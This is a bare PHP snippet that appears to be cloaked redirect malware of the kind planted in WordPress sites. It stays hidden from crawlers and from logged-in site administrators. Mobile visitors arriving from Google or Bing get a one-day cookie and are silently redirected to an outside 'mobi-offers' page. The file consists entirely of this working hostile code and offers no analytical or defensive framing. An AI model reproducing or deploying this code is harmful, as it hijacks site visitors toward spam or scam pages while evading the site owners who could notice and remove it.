<?php
$ua = strtolower($_SERVER['HTTP_USER_AGENT']);
$r = strtolower(@$_SERVER['HTTP_REFERER']);
if (preg_match('/bot|crawl|spider|slurp/', $ua)) {
    return;
}
if (isset($_COOKIE['wordpress_logged_in_' . md5(get_site_url())]) || isset($_COOKIE['_was_here'])) {
    return;
}
if (preg_match('/android|iphone|ipad|mobile/', $ua) && (strstr($r, 'google') || strstr($r, 'bing'))) {
    setcookie('_was_here', 'y', time() + 3600 * 24, '/');
    echo '<script>document.location = "http://mobi-offers.example.info/in.php?t=4";</script>';
}
